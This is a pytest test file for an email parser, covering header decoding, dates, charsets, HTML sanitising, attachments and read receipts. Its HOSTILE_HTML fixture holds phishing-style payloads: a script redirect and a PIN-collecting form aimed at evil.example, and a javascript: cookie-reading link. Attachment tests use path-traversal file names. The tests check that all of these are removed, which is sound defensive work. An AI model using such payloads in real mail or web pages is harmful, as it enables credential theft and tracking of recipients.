"""Parsing single hand-made mails: headers, dates, bodies, attachments, read receipts."""

from __future__ import annotations

import base64
import hashlib
from datetime import UTC, datetime, timedelta, timezone
from email.message import EmailMessage

import pytest

from proxydesk.errors import ProxyDeskError
from proxydesk.mail import parse as parse_module
from proxydesk.mail.parse import (
    ParsedMessage,
    UnparseableMessage,
    normalized_subject,
    parse_message,
)

SERVER_TIME = datetime(2012, 3, 20, 9, 15, tzinfo=UTC)


def mail(*headers: str, body: bytes = b"Hallo.\r\n", dated: bool = True) -> bytes:
    """A raw mail from header lines and a body, CRLF-terminated like on the wire."""
    lines = list(headers)
    if dated and not any(h.lower().startswith("date:") for h in lines):
        lines.append("Date: Mon, 5 Mar 2012 14:03:00 +0100")
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


def parse(raw: bytes) -> ParsedMessage:
    return parse_message(raw, internaldate=SERVER_TIME)


# --- headers ------------------------------------------------------------------------------


def test_rfc2047_subject_in_iso_8859_1_and_utf8() -> None:
    latin = parse(mail("Subject: =?ISO-8859-1?Q?Gr=FC=DFe_von_Gerda_Vo=DF?="))
    assert latin.subject == "Grüße von Gerda Voß"
    utf8 = parse(
        mail(
            "Subject: =?UTF-8?B?"
            + base64.b64encode("Übernahme für Gerda Voß".encode()).decode()
            + "?="
        )
    )
    assert utf8.subject == "Übernahme für Gerda Voß"
    assert latin.repaired == [] and utf8.repaired == []


def test_encoded_words_split_inside_a_character_and_mixed_with_text() -> None:
    # "Voß" with the two UTF-8 bytes of ß spread over two encoded words.
    parsed = parse(mail("Subject: Re: Anschluss =?utf-8?q?Gerda_Vo=C3?= =?utf-8?q?=9F?= (Tante)"))
    assert parsed.subject == "Re: Anschluss Gerda Voß (Tante)"


def test_from_and_recipients_with_encoded_names() -> None:
    parsed = parse(
        mail(
            "From: =?utf-8?q?Gerda_Vo=C3=9F?= <Gerda.Voss@Example.ORG>",
            'To: "Kundenservice" <service@telekom.example>, sohn@example.org',
            "Cc: =?iso-8859-1?q?J=FCrgen?= <juergen@example.org>, undisclosed-recipients:;",
        )
    )
    assert parsed.from_name == "Gerda Voß"
    assert parsed.from_address == "gerda.voss@example.org"
    assert parsed.to == [("Kundenservice", "service@telekom.example"), ("", "sohn@example.org")]
    assert parsed.cc == [("Jürgen", "juergen@example.org")]


def test_unparseable_from_keeps_the_name_and_no_address() -> None:
    parsed = parse(mail("From: Kundenservice ohne Adresse", "Subject: x"))
    assert parsed.from_address is None
    assert parsed.from_name == "Kundenservice ohne Adresse"


def test_subject_mojibake_is_repaired_and_noted() -> None:
    parsed = parse(mail("Subject: =?utf-8?q?F=C3=83=C2=BCr_Sie?="))  # "FÃ¼r Sie" in UTF-8
    assert parsed.subject == "Für Sie"
    assert "subject mojibake repaired" in parsed.repaired


def test_raw_8bit_headers_utf8_then_cp1252() -> None:
    utf8 = parse(
        b"From: a@example.org\r\nDate: 5 Mar 2012 14:03 +0100\r\n"
        b"Subject: Gr\xc3\xbc\xc3\x9fe\r\n\r\nx"
    )
    assert utf8.subject == "Grüße" and utf8.repaired == []
    cp1252 = parse(b"From: a@example.org\r\nSubject: Gr\xfc\xdfe \x80 5\r\n\r\nx")
    assert cp1252.subject == "Grüße € 5"
    assert any("windows-1252" in note for note in cp1252.repaired)


def test_subject_whitespace_is_normalized() -> None:
    parsed = parse(mail("Subject: Ihr   Auftrag\r\n\tvom\r\n  5. M=?utf-8?q?=C3=A4?=rz"))
    assert parsed.subject == "Ihr Auftrag vom 5. März"


def test_message_ids_references_and_in_reply_to() -> None:
    parsed = parse(
        mail(
            "Message-ID:  < 4F5A.1@social.telekom.example >",
            "In-Reply-To: <a1@example.org> (Ihre Nachricht vom 1. März)",
            "References: <root@example.org> <a1@example.org>",
            "References: <broken id@example.org>\r\n <later@example.org> garbage",
        )
    )
    assert parsed.message_id == "4F5A.1@social.telekom.example"
    assert parsed.in_reply_to == "a1@example.org"
    assert parsed.references == ["root@example.org", "a1@example.org", "later@example.org"]


def test_garbage_message_id_is_none() -> None:
    assert parse(mail("Message-ID: no id here")).message_id is None
    assert parse(mail("Message-ID: <>")).message_id is None
    assert parse(mail("Subject: x")).message_id is None


def test_read_receipt_request() -> None:
    parsed = parse(mail("Disposition-Notification-To: Sohn <Sohn@Example.org>"))
    assert parsed.disposition_notification_to == "sohn@example.org"
    assert parse(mail("Subject: x")).disposition_notification_to is None


@pytest.mark.parametrize(
    ("subject", "key"),
    [
        ("AW: Re: [Ticket#123] Ihr Auftrag", "ihr auftrag"),
        ("Re: AW: WG: Fwd: Ihr   Auftrag", "ihr auftrag"),
        ("Antw: RE[2]: Ihr Auftrag", "ihr auftrag"),
        ("FW: [EXTERN] Re: Ihr Auftrag [#A-2012-0305]", "ihr auftrag"),
        ("Ihr Auftrag", "ihr auftrag"),
        ("Rechnung: März", "rechnung: märz"),
        ("Reaktion auf Ihre Anfrage", "reaktion auf ihre anfrage"),
        ("SV: Vs: Ihr Auftrag", "ihr auftrag"),
        ("", ""),
    ],
)
def test_normalized_subject(subject: str, key: str) -> None:
    assert normalized_subject(subject) == key


# --- dates --------------------------------------------------------------------------------


def test_date_from_header() -> None:
    parsed = parse(mail("Date: Mon, 5 Mar 2012 14:03:00 +0100"))
    assert parsed.date == datetime(2012, 3, 5, 13, 3, tzinfo=UTC)
    assert parsed.date_from_header is True
    assert parsed.repaired == []


def test_missing_date_uses_internaldate_and_says_so() -> None:
    parsed = parse(mail("Subject: kein Datum", dated=False))
    assert parsed.date == SERVER_TIME
    assert parsed.date_from_header is False
    assert "Date header missing: used server time" in parsed.repaired


@pytest.mark.parametrize(
    "value",
    [
        "Pn, 29 paX 2007 21:13:00 +0100",
        "<HR>",
        "Thu,",
        "Wed, 15 Dec 2010    59:10 -0500",
        "Mon, 30 Jun 3609 15:33:50",
    ],
)
def test_garbage_or_implausible_date_uses_internaldate(value: str) -> None:
    parsed = parse(mail(f"Date: {value}"))
    assert parsed.date == SERVER_TIME
    assert parsed.date_from_header is False
    assert any(note.startswith("Date header") and "server time" in note for note in parsed.repaired)


@pytest.mark.parametrize(
    "value",
    ["Mon, 5 Mar 2012 14:03:00 -0000", "5 Mar 2012 14:03:00", "Mon, 5 Mar 2012 14:03:00 H0500"],
)
def test_date_without_usable_zone_is_read_as_utc(value: str) -> None:
    parsed = parse(mail(f"Date: {value}"))
    assert parsed.date == datetime(2012, 3, 5, 14, 3, tzinfo=UTC)
    assert parsed.date_from_header is True


def test_no_date_and_no_internaldate_uses_now() -> None:
    before = datetime.now(UTC)
    parsed = parse_message(mail("Subject: x", dated=False))
    assert before - timedelta(seconds=1) <= parsed.date <= datetime.now(UTC) + timedelta(seconds=1)
    assert parsed.date.tzinfo is not None
    assert parsed.date_from_header is False


def test_naive_internaldate_is_made_aware() -> None:
    parsed = parse_message(
        mail("Subject: x", dated=False), internaldate=datetime(2012, 3, 20, 10, 0)
    )
    assert parsed.date.tzinfo is not None
    assert parsed.date.replace(tzinfo=None) == datetime(2012, 3, 20, 10, 0)


def test_date_keeps_its_offset() -> None:
    parsed = parse(mail("Date: Fri, 16 Mar 2012 10:14:00 +0100"))
    assert parsed.date.utcoffset() == timezone(timedelta(hours=1)).utcoffset(None)


# --- bodies -------------------------------------------------------------------------------


def test_declared_iso_8859_1_but_utf8_inside() -> None:
    body = "Sehr geehrte Frau Voß, Ihr Anschluss wird übernommen.".encode()
    parsed = parse(
        mail(
            "Content-Type: text/plain; charset=iso-8859-1",
            "Content-Transfer-Encoding: 8bit",
            body=body,
        )
    )
    assert parsed.text == "Sehr geehrte Frau Voß, Ihr Anschluss wird übernommen."
    assert any("wrong charset iso-8859-1 declared, decoded as utf-8" in n for n in parsed.repaired)


def test_declared_utf8_but_latin1_inside() -> None:
    body = "Sehr geehrte Frau Voß, Ihr Anschluss wird übernommen. Grüße".encode("latin-1")
    parsed = parse(mail("Content-Type: text/plain; charset=utf-8", body=body))
    assert parsed.text == "Sehr geehrte Frau Voß, Ihr Anschluss wird übernommen. Grüße"
    assert any("wrong charset utf-8 declared" in n for n in parsed.repaired)


def test_double_encoded_utf8_body_is_repaired() -> None:
    body = "Ihr Auftrag für Frau Voß – bestätigt".encode().decode("cp1252").encode()
    parsed = parse(mail("Content-Type: text/plain; charset=utf-8", body=body))
    assert parsed.text == "Ihr Auftrag für Frau Voß – bestätigt"
    assert any("mojibake repaired" in n for n in parsed.repaired)


@pytest.mark.parametrize(
    ("charset", "encoded", "text"),
    [
        ("x-unknown", "Grüße".encode(), "Grüße"),
        ("utf8mb4", "Grüße".encode(), "Grüße"),
        ("ks_c_5601-1987", "스티해".encode("cp949"), "스티해"),
        ('"windows-1252"', "Grüße €".encode("cp1252"), "Grüße €"),
        ("unicode-1-1-utf-7", "Grüße".encode("utf-7"), "Grüße"),
        ("base64", b"plain ascii", "plain ascii"),
    ],
)
def test_odd_charset_names_do_not_crash(charset: str, encoded: bytes, text: str) -> None:
    parsed = parse(mail(f"Content-Type: text/plain; charset={charset}", body=encoded))
    assert parsed.text == text


def test_quoted_printable_and_base64_bodies() -> None:
    qp = parse(
        mail(
            "Content-Type: text/plain; charset=utf-8",
            "Content-Transfer-Encoding: quoted-printable",
            body=b"Gr=C3=BC=C3=9Fe, lange Zeile =\r\nweiter",
        )
    )
    assert qp.text == "Grüße, lange Zeile weiter"
    b64 = parse(
        mail(
            "Content-Type: text/plain; charset=utf-8",
            "Content-Transfer-Encoding: Base64;",  # broken spelling seen in the wild
            body=base64.encodebytes("Grüße aus Köln".encode()),
        )
    )
    assert b64.text == "Grüße aus Köln"


def test_format_flowed_is_joined() -> None:
    parsed = parse(
        mail(
            "Content-Type: text/plain; charset=utf-8; format=flowed",
            body=b"Das ist eine lange \r\nZeile.\r\n> zitiert \r\n> weiter\r\n-- \r\nSohn",
        )
    )
    assert parsed.text == "Das ist eine lange Zeile.\n> zitiert weiter\n-- \nSohn"


HOSTILE_HTML = """<html><head><title>Formular</title>
<style>body { background: url(https://x.example/bg.png) }</style>
<script>document.location='https://evil.example/'</script></head>
<body onload="steal()">
<p style="background:url(https://x.example/a.png); color: red">Sehr geehrter Kunde,</p>
<p onclick="alert(1)">bitte drucken Sie das <b>Formular</b> aus.</p>
<img src="https://tracker.example/p.gif" width="1" height="1">
<form action="https://evil.example/post"><input name="pin"><button>Senden</button></form>
<a href="javascript:alert(document.cookie)">Hier klicken</a>
<a href="https://telekom.example/fax">Faxformular</a>
</body></html>"""


def test_html_only_mail_is_sanitized_and_rendered() -> None:
    parsed = parse(mail("Content-Type: text/html; charset=utf-8", body=HOSTILE_HTML.encode()))
    assert parsed.html is not None
    for forbidden in (
        "https://tracker",
        "script",
        "onclick",
        "onload",
        "url(",
        "javascript:",
        "<form",
        "<input",
        "evil.example",
        "<style",
        "x.example",
    ):
        assert forbidden not in parsed.html
    assert 'rel="noopener noreferrer"' in parsed.html
    for visible in (
        "Sehr geehrter Kunde,",
        "bitte drucken Sie das Formular aus.",
        "Senden",
        "Hier klicken",
        "Faxformular (https://telekom.example/fax)",
    ):
        assert visible in parsed.text
    assert "document.location" not in parsed.text and "background" not in parsed.text
    assert "Formular\n" not in parsed.text.split("Sehr")[0]  # the <title> is not text


def test_alternative_prefers_plain_text_and_keeps_sanitized_html() -> None:
    msg = EmailMessage()
    msg["From"] = "service@telekom.example"
    msg["Subject"] = "Ihr Auftrag"
    msg.set_content("Der Techniker kommt am 13. März.")
    msg.add_alternative(
        "<p>Der Techniker kommt am <b>13. März</b>.<script>x()</script></p>", subtype="html"
    )
    parsed = parse(msg.as_bytes())
    assert parsed.text == "Der Techniker kommt am 13. März."
    assert parsed.html == "<p>Der Techniker kommt am <b>13. März</b>.</p>"


def test_plain_mail_has_no_html() -> None:
    assert parse(mail("Subject: x")).html is None


def test_inline_cid_image_is_kept_and_marked_inline() -> None:
    msg = EmailMessage()
    msg["From"] = "service@telekom.example"
    msg.set_content("Logo")
    msg.add_alternative(
        '<p>Logo: <img src="cid:logo@telekom.example" alt="Logo">'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">'
        '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="svg"></p>',
        subtype="html",
    )
    html_part = msg.get_payload()[1]
    html_part.add_related(
        b"\x89PNG\r\n\x1a\nfake", maintype="image", subtype="png", cid="<logo@telekom.example>"
    )
    parsed = parse(msg.as_bytes())
    assert parsed.html is not None
    assert 'src="cid:logo@telekom.example"' in parsed.html
    assert "data:image/png;base64,iVBORw0KGgo=" in parsed.html
    assert "svg+xml" not in parsed.html
    [logo] = parsed.attachments
    assert logo.inline is True and logo.content_id == "logo@telekom.example"
    assert logo.mime_type == "image/png" and logo.data == b"\x89PNG\r\n\x1a\nfake"
    assert logo.filename == "attachment-1.png"


# --- attachments --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Windows\\evil.exe", "evil.exe"),
        ("CON.txt", "_CON.txt"),
        ("..", "attachment-1.pdf"),
        ("", "attachment-1.pdf"),
        ("Vollmacht Gerda Voß.pdf", "Vollmacht Gerda Voß.pdf"),
    ],
)
def test_attachment_names_are_sanitized(name: str, expected: str) -> None:
    msg = EmailMessage()
    msg["From"] = "sohn@example.org"
    msg.set_content("Anbei die Vollmacht.")
    msg.add_attachment(b"%PDF-1.4 ...", maintype="application", subtype="pdf", filename=name)
    parsed = parse(msg.as_bytes())
    [attachment] = parsed.attachments
    assert attachment.filename == expected
    assert attachment.mime_type == "application/pdf"
    assert attachment.data == b"%PDF-1.4 ..."
    assert attachment.inline is False
    assert attachment.sha256 == hashlib.sha256(b"%PDF-1.4 ...").hexdigest()


def test_rfc2231_and_rfc2047_file_names() -> None:
    raw = mail(
        "From: a@example.org",
        "Content-Type: multipart/mixed; boundary=XX",
        body=b"--XX\r\nContent-Type: text/plain\r\n\r\nText\r\n"
        b"--XX\r\nContent-Type: application/pdf\r\n"
        b"Content-Disposition: attachment;\r\n"
        b" filename*0*=UTF-8''Vollmacht%20f%C3%BCr%20;\r\n"
        b" filename*1*=Gerda%20Vo%C3%9F.pdf\r\n"
        b"\r\nPDF\r\n"
        b'--XX\r\nContent-Type: application/pdf; name="=?UTF-8?B?'
        + base64.b64encode("Kündigung.pdf".encode())
        + b'?="\r\n'
        b"Content-Disposition: attachment\r\n\r\nPDF2\r\n--XX--\r\n",
    )
    parsed = parse(raw)
    assert [a.filename for a in parsed.attachments] == [
        "Vollmacht für Gerda Voß.pdf",
        "Kündigung.pdf",
    ]
    assert parsed.text == "Text"


def test_forwarded_mail_is_an_eml_attachment() -> None:
    inner = mail("From: service@telekom.example", "Subject: Ihr Auftrag", body=b"Innen")
    raw = mail(
        "From: sohn@example.org",
        "Content-Type: multipart/mixed; boundary=B",
        body=b"--B\r\nContent-Type: text/plain\r\n\r\nSiehe unten\r\n"
        b"--B\r\nContent-Type: message/rfc822\r\n\r\n" + inner + b"\r\n--B--\r\n",
    )
    parsed = parse(raw)
    [forwarded] = parsed.attachments
    assert forwarded.filename == "Ihr Auftrag.eml"
    assert forwarded.mime_type == "message/rfc822"
    assert parse(forwarded.data).text == "Innen"
    assert parsed.text == "Siehe unten"


# --- read receipts ------------------------------------------------------------------------


def receipt(notification: bytes, cte: str = "7bit") -> bytes:
    return mail(
        "From: service@telekom.example",
        "To: sohn@example.org",
        "Subject: Gelesen: Ihr Auftrag",
        "In-Reply-To: <fallback@example.org>",
        "Content-Type: multipart/report; report-type=disposition-notification; boundary=R",
        body=b"--R\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        b"Ihre Nachricht wurde angezeigt.\r\n"
        b"--R\r\nContent-Type: message/disposition-notification\r\n"
        b"Content-Transfer-Encoding: "
        + cte.encode()
        + b"\r\n\r\n"
        + notification
        + b"\r\n--R--\r\n",
    )


MDN_FIELDS = (
    b"Reporting-UA: mail.telekom.example; Outlook\r\n"
    b"Final-Recipient: rfc822; service@telekom.example\r\n"
    b"Original-Message-ID: <auftrag-0305@example.org>\r\n"
    b"Disposition: manual-action/MDN-sent-manually; displayed\r\n"
)


def test_read_receipt_fields() -> None:
    parsed = parse(receipt(MDN_FIELDS))
    assert parsed.is_read_receipt is True
    assert parsed.receipt_for_message_id == "auftrag-0305@example.org"
    assert parsed.receipt_disposition == "displayed"
    assert parsed.text == "Ihre Nachricht wurde angezeigt."
    assert parsed.attachments == []


def test_read_receipt_fields_in_base64() -> None:
    parsed = parse(receipt(base64.encodebytes(MDN_FIELDS), cte="base64"))
    assert parsed.receipt_for_message_id == "auftrag-0305@example.org"
    assert parsed.receipt_disposition == "displayed"


def test_read_receipt_without_original_id_falls_back_to_in_reply_to() -> None:
    parsed = parse(receipt(b"Disposition: automatic-action/MDN-sent-automatically; deleted\r\n"))
    assert parsed.receipt_for_message_id == "fallback@example.org"
    assert parsed.receipt_disposition == "deleted"


def test_delivery_report_is_not_a_read_receipt() -> None:
    raw = receipt(MDN_FIELDS).replace(
        b"report-type=disposition-notification", b"report-type=delivery-status"
    )
    parsed = parse(raw)
    assert parsed.is_read_receipt is False
    assert parsed.receipt_for_message_id is None


# --- refusing and surviving ---------------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [b"", b"  \r\n ", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", b"just some text without any header"],
)
def test_not_a_mail_is_refused_with_a_reason(raw: bytes) -> None:
    with pytest.raises(UnparseableMessage) as caught:
        parse(raw)
    assert caught.value.reason.strip()
    assert isinstance(caught.value, ProxyDeskError)


def test_not_bytes_is_refused() -> None:
    with pytest.raises(UnparseableMessage):
        parse_message("From: a@example.org\r\n\r\nx")  # type: ignore[arg-type]


def test_unexpected_error_is_wrapped_with_its_class(monkeypatch: pytest.MonkeyPatch) -> None:
    def explode(html: str) -> str:
        raise ValueError("boom")

    monkeypatch.setattr(parse_module, "sanitize_html", explode)
    with pytest.raises(UnparseableMessage) as caught:
        parse(mail("Content-Type: text/html", body=b"<p>x</p>"))
    assert "ValueError" in caught.value.reason and "boom" in caught.value.reason


def test_a_broken_part_costs_only_itself(monkeypatch: pytest.MonkeyPatch) -> None:
    real = parse_module.part_bytes

    def flaky(part, info):  # type: ignore[no-untyped-def]
        if info.content_type == "application/pdf":
            raise LookupError("codec gone")
        return real(part, info)

    monkeypatch.setattr(parse_module, "part_bytes", flaky)
    msg = EmailMessage()
    msg["From"] = "sohn@example.org"
    msg["Subject"] = "Vollmacht"
    msg.set_content("Anbei.")
    msg.add_attachment(b"%PDF", maintype="application", subtype="pdf", filename="v.pdf")
    parsed = parse(msg.as_bytes())
    assert parsed.subject == "Vollmacht" and parsed.text == "Anbei."
    assert parsed.attachments == []
    assert any("LookupError" in note for note in parsed.repaired)


def test_obsolete_and_junk_header_lines_are_repaired() -> None:
    parsed = parse(b"Subject   : Hallo\r\njunk line\r\nFrom: a@example.org\r\n\r\nText")
    assert parsed.subject == "Hallo"
    assert parsed.from_address == "a@example.org"
    assert parsed.text == "Text"
    assert any("junk line" in note for note in parsed.repaired)
